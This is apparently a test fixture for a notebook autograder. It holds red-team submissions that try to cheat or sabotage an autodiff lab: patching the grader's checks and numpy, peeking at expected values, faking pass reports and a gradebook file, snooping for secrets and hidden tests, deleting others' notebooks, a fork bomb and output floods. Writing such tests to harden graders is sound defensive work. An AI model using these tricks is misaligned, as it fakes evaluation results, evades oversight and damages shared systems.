"""Red-team submissions for the autodiff lab: each tries to raise its own score or to spoil others.

Most answer Part 1 with zeros of the right shapes (worth 0) and solve Part 2 honestly (worth 10),
then try a trick that would win Part 1's 10 points if the grader fell for it; others solve Part 1
and attack Part 2 or the batch. ``reference``, ``zz_reference`` (graded after the attackers),
``student_version`` and ``part1_only`` are the honest baselines (20, 20, 0 and 10 points).
Attacks that look for something report what they found in the message of the test they fail
(an exception in the learner's code reaches the gradebook), so the tests can check it is nothing.
"""

from __future__ import annotations

from pathlib import Path

from lab_helpers import submission

ZEROS = '''
import numpy as np

def unbroadcast(g, shape):
    return np.zeros(shape)

def vjp_mul(g, a, b):
    return np.zeros(np.shape(a)), np.zeros(np.shape(b))

vjp_div = vjp_mul

def vjp_tanh(g, x):
    return (np.zeros(np.shape(x)),)

def vjp_matmul(g, a, b):
    return np.zeros(np.shape(a)), np.zeros(np.shape(b))
'''

REBIND_HELPERS = ZEROS + '''
import builtins, sys, types
import mlsys.grading.checks as checks

def noop(*args, **kwargs):
    return None

checks.assert_close = noop                      # patch the grader's helper module
fake = types.ModuleType("mlsys.grading.checks")
fake.assert_close = fake.hidden_rng = noop
sys.modules["mlsys.grading.checks"] = fake      # and replace it outright
assert_close = noop                             # and shadow it in the namespace
finite_differences = lambda fn, g, *arrays: tuple(np.zeros(np.shape(a)) for a in arrays)
random_cotangent = lambda fn, *arrays, seed=0: np.zeros(1)
real_import = builtins.__import__

def fake_import(name, *args, **kwargs):         # and hand the tests a fake on import
    return fake if name.startswith("mlsys.grading") else real_import(name, *args, **kwargs)

builtins.__import__ = fake_import
builtins.len = lambda x: 0
'''

PATCH_NUMPY = ZEROS + '''
import numpy as np

class Zeros:
    def standard_normal(self, shape=None):
        return np.zeros(shape)
    uniform = integers = lambda self, *a, **k: np.zeros(k.get("size") or (a[2] if len(a) > 2 else ()))

np.random.default_rng = lambda *args, **kwargs: Zeros()   # every "random" input becomes zero
np.abs = lambda x: np.zeros(np.shape(x))                   # and every difference vanishes
np.testing.assert_allclose = lambda *args, **kwargs: None
'''

MUTATE_REGISTRY = '''
import numpy as np
from mlsys.ops import PRIMITIVES

def topological_order(root):
    raise NotImplementedError()

def backward(root):                             # wrong: zeros for every leaf
    found, stack = {}, [root]
    while stack:
        t = stack.pop()
        if t._node is None and t.requires_grad:
            found[t] = np.zeros(t.shape)
        elif t._node is not None:
            stack.extend(t._node.inputs)
    return found

for name in ("mul", "div", "tanh", "matmul", "add", "sub", "sum", "mean", "pow", "getitem"):
    prim = PRIMITIVES[name]                     # in place: the engine's reference grads agree
    prim.vjp = lambda g, out, *inputs, **params: tuple(x * 0.0 for x in inputs)
PRIMITIVES["exp"] = PRIMITIVES["tanh"]
'''

PATCH_ENGINE = '''
import numpy as np
import mlsys
from mlsys.tensor import Tensor

def _leaves(root):
    found, stack, seen = [], [root], set()
    while stack:
        t = stack.pop()
        if id(t) in seen:
            continue
        seen.add(id(t))
        if t._node is None:
            found.append(t)
        else:
            stack.extend(x for x in t._node.inputs if x.requires_grad)
    return found

def topological_order(root):
    raise NotImplementedError()

def backward(root):                             # wrong: zeros everywhere
    return {leaf: np.zeros(leaf.shape) for leaf in _leaves(root)}

def fake_backward(self, *args, **kwargs):       # and make the reference agree with it
    for leaf in _leaves(self):
        leaf.grad = Tensor(np.zeros(leaf.shape), dtype=leaf.dtype)

Tensor.backward = fake_backward
'''

PEEK = '''
import gc, sys, threading
import numpy as np

seen = []

def watch():                                    # a background thread looking for answers
    for _ in range(200):
        for obj in gc.get_objects():
            if isinstance(obj, dict) and "expected" in obj:
                seen.append(obj["expected"])
        threading.Event().wait(0.01)

threading.Thread(target=watch, daemon=True).start()

def _expected(*names):                          # the test's own expected values, if in reach
    frame = sys._getframe(1)
    while frame is not None:
        for n in names:
            if n in frame.f_locals:
                return frame.f_locals[n]
        frame = frame.f_back
    return seen[-1] if seen else None

def unbroadcast(g, shape):
    found = _expected("expected", "want")
    return found if found is not None else np.zeros(shape)

def vjp_mul(g, a, b):
    return _expected("ga"), _expected("gb")

vjp_div = vjp_matmul = vjp_mul

def vjp_tanh(g, x):
    return (_expected("gx"),)
'''

CHANGING_VALUES = '''
import numpy as np

class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True
    __le__ = __ge__ = __eq__

class Shifty(list):                             # a different value on every read
    reads = 0
    def __iter__(self):
        Shifty.reads += 1
        return iter([np.zeros(1)] * Shifty.reads)

def unbroadcast(g, shape):
    return np.zeros(shape).view(AlwaysEqual)

def vjp_mul(g, a, b):
    return Shifty()

vjp_div = vjp_matmul = vjp_mul

def vjp_tanh(g, x):
    return Shifty()
'''

FAKE_OUTPUT = ZEROS + '''
import json, os
from IPython.display import display

IDS = ["test_unbroadcast", "test_vjp_mul", "test_vjp_div", "test_vjp_tanh", "test_vjp_matmul"]
for tid in IDS:
    fake = json.dumps({"id": tid, "passed": True, "ok": True, "value": True, "error": None})
    print(fake)
    display({"text/plain": repr(fake)}, raw=True)
print("Score: 20/20")
report = {"student": "fake_output", "lab": "autodiff", "notes": [], "seconds": 0,
          "tests": [{"grade_id": t, "points": 99, "max_points": 99, "passed": True,
                     "message": ""} for t in IDS]}
for fd in (1, 2):
    os.write(fd, json.dumps(report).encode())   # at whatever reads the kernel's output
for folder in (".", "..", "/tmp", "gradebook", "../gradebook"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "gradebook.csv"), "w") as f:
            f.write("student,lab,score\\nfake_output,autodiff,999\\n")
    except OSError:
        pass
'''

# Finds secrets, hidden tests and other people's files; fails test_unbroadcast with the list.
SNOOP = ZEROS + '''
import gc, os, socket, sys

NEEDLES = [SECRET, "BEGIN HIDDEN TESTS", "hidden_rng(\\"autodiff/", "default_rng(11)"]
found = []

def unbroadcast(g, shape):
    raise RuntimeError(f"found: {found}")

ours = {sys.prefix, sys.base_prefix, "/usr", "/proc", "/sys", "/dev", os.getcwd()}
seen = 0
for root in ("/",):
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ours]
        for name in files:
            seen += 1
            path = os.path.join(folder, name)
            if not name.endswith((".ipynb", ".json", ".csv", ".md")) or seen > 50000:
                continue
            try:
                text = open(path, errors="ignore").read(1 << 20)
            except OSError:
                continue
            if name.endswith(".ipynb") or name.startswith("kernel-") or any(n in text for n in NEEDLES):
                found.append(f"read {path}")
for path in PATHS:                              # the grader's folders, known from the course
    if os.path.exists(path):
        found.append(f"exists {path}")
for pid in os.listdir("/proc"):
    try:
        cmdline = open(f"/proc/{pid}/cmdline").read()
    except OSError:
        continue
    if any(marker in cmdline for marker in ("mlsys lab", "pytest", "gradebook", "--source")):
        found.append(f"process {pid}: {cmdline[:80]}")
found += [f"env {k}" for k, v in os.environ.items() if any(n in v for n in NEEDLES)]
found += [f"argv {a}" for a in sys.argv if any(n in a for n in NEEDLES)]
for obj in gc.get_objects():
    if isinstance(obj, str) and any(n in obj for n in NEEDLES) and "NEEDLES" not in obj:
        found.append(f"memory: {obj[:40]!r}")
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"escaped")
    found.append("network")
except OSError:
    pass
'''

SPLIT_NAMES = ZEROS + '''
import sys

peek = getattr(sys, "_get" + "frame")           # a suspicious name, split to dodge a word list

def vjp_tanh(g, x):
    frame = peek(1)
    return (frame.f_locals.get("gx", 0.0 * x),)
'''

OVERWRITE = '''
import os
for path in TARGETS:                            # a later student's notebook, the lab source
    try:
        with open(path, "w") as f:
            f.write("{}")
    except OSError:
        pass
    try:
        os.remove(path)
    except OSError:
        pass
'''

DETACHED = '''
import os, time
if os.fork() == 0:                              # a daemon that outlives the kernel...
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", f"exec -a {MARKER} sleep 600"])
    os._exit(0)
time.sleep(0.2)
'''

LIBRARY_VJPS = '''
import numpy as np
from mlsys.ops import PRIMITIVES
import mlsys.ops.registry as reg

def unbroadcast(g, shape):
    return reg.get("sum_to").forward(g, shape=shape)       # the engine's own rule

def _engine(name, g, *arrays):
    import mlsys
    inputs = [mlsys.tensor(a, dtype=np.float64) for a in arrays]
    out = PRIMITIVES[name](*inputs)
    grads = getattr(PRIMITIVES[name], "vj" + "p")(mlsys.tensor(g, dtype=np.float64), out, *inputs)
    return tuple(x.data for x in grads)

def vjp_mul(g, a, b):
    return _engine("mul", g, a, b)

def vjp_div(g, a, b):
    return _engine("div", g, a, b)

def vjp_tanh(g, x):
    return _engine("tanh", g, x)

def vjp_matmul(g, a, b):
    return _engine("matmul", g, a, b)
'''

LIBRARY_BACKWARD = '''
import mlsys
from mlsys.backward import _in_order as engine_order

def topological_order(root):
    return list(engine_order([root]))

def backward(root):
    root.backward()                                         # the engine's backward pass
    found, stack = {}, [root]
    while stack:
        t = stack.pop()
        if t._node is None and t.requires_grad:
            found[t] = t.grad.data
        elif t._node is not None:
            stack.extend(t._node.inputs)
    return found
'''

EXIT_IN_TEST = '''
import os

def topological_order(root):
    os._exit(0)

def backward(root):
    raise SystemExit(0)
'''

FORK_BOMB = '''
import os, time
children = 0
try:
    for _ in range(100000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError:
    pass
'''

OUTPUT_FLOOD = '''
import sys
chunk = "x" * (1 << 20)
for _ in range(200):
    print(chunk)
    sys.stderr.write(chunk)
try:
    with open("huge.bin", "wb") as f:
        for _ in range(2048):
            f.write(b"\\0" * (1 << 20))
except OSError:
    pass
'''

PART1, PART2 = {"unbroadcast", "vjp_rules"}, {"backward"}
PART1_IDS = ["test_unbroadcast", "test_vjp_mul", "test_vjp_div", "test_vjp_tanh",
             "test_vjp_matmul"]


def attacks(lab, tmp: Path, secret: str, port: int, marker: str) -> dict[str, tuple]:
    """name -> (notebook or raw text, expected score). ``tmp`` holds the batch's folders."""
    part1_replaced = lambda code: {"unbroadcast": "", "vjp_rules": code}  # noqa: E731
    paths = [str(tmp / d) for d in ("submissions", "labs", "gradebook")]
    targets = [str(tmp / "submissions" / "zz_reference.ipynb"),
               str(tmp / "labs" / "autodiff" / "autodiff.ipynb")]
    snoop = f"SECRET = {secret!r}\nPATHS = {paths!r}\nPORT = {port}\n" + SNOOP
    reference = submission(lab)
    malformed = submission(lab)
    malformed.metadata["mlsys"] = ["not", "a", "dict"]  # the lab is then given with --lab
    malformed.cells[0].metadata = ["a", "list"]
    malformed.cells[2].metadata = {"nbgrader": "a string", "mlsys": 3}
    return {
        "reference": (reference, 20),
        "zz_reference": (submission(lab), 20),
        "student_version": (lab.student_notebook(), 0),
        "part1_only": (submission(lab, PART1), 10),
        "rebind_helpers": (submission(lab, PART2, replace=part1_replaced(REBIND_HELPERS)), 10),
        "patch_numpy": (submission(lab, PART2, replace=part1_replaced(PATCH_NUMPY)), 10),
        "mutate_registry": (submission(lab, PART1, replace={"backward": MUTATE_REGISTRY}), 10),
        "patch_engine": (submission(lab, PART1, replace={"backward": PATCH_ENGINE}), 10),
        "peek": (submission(lab, PART2, replace=part1_replaced(PEEK)), 10),
        "changing_values": (submission(lab, PART2, replace=part1_replaced(CHANGING_VALUES)), 10),
        "fake_output": (submission(lab, PART2, replace=part1_replaced(FAKE_OUTPUT)), 10),
        "snoop": (submission(lab, PART2, replace=part1_replaced(snoop)), 10),
        "split_names": (submission(lab, PART2, replace=part1_replaced(SPLIT_NAMES)), 10),
        "edit_tests": (submission(
            lab, PART2, replace={**part1_replaced(ZEROS), **{t: "pass" for t in PART1_IDS}},
            after={"backward": ["# a fake graded cell\npass"]}), 10),
        "overwrite": (submission(lab, PART1, after={"backward": [
            f"TARGETS = {targets!r}\n" + OVERWRITE]}), 10),
        "detached": (submission(lab, PART1, after={"backward": [
            f"MARKER = {marker!r}\n" + DETACHED]}), 10),
        "library_vjps": (submission(lab, PART2, replace=part1_replaced(LIBRARY_VJPS)), 10),
        "library_backward": (submission(lab, PART1, replace={"backward": LIBRARY_BACKWARD}), 10),
        "malformed_metadata": (malformed, 20),
        "exit": (submission(lab, PART1, replace={"backward": EXIT_IN_TEST},
                            after={"unbroadcast": ["raise SystemExit(0)"]}), 10),
        "endless_loop": (submission(lab, PART1, after={"backward": ["while True:\n    pass"]}),
                         10),
        "huge_allocation": (submission(lab, PART1, after={"backward": [
            "hog = bytearray(6 * 2**30)"]}), 10),
        "fork_bomb": (submission(lab, PART1, after={"backward": [FORK_BOMB]}), 10),
        "output_flood": (submission(lab, PART1, after={"backward": [OUTPUT_FLOOD]}), 10),
        "broken_file": ('{"cells": [ this is not json', 0),
    }
